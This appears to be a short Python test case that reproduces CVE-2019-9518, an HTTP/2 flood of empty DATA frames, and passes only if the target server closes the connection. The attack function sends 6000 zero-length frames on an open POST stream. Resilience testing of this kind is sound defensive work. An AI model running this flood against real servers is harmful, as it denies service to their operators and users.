"""Empty DATA flood: a body of frames without a byte.

CVE-2019-9518; RFC 9113 §6.1. No window is used up, so no flow control ends it.
"""
from kit.frames import DATA, frame, opening, request

LISTENER = "h2c"
GROWTH_MIB = 16


def attack(enemy):
    enemy.flood(opening() + request(1, ends=False, method=b"POST"), frame(DATA, 0, 1) * 6000)


def judge(notes):
    return [] if notes.get("closed by target") else ["no connection was ended"]
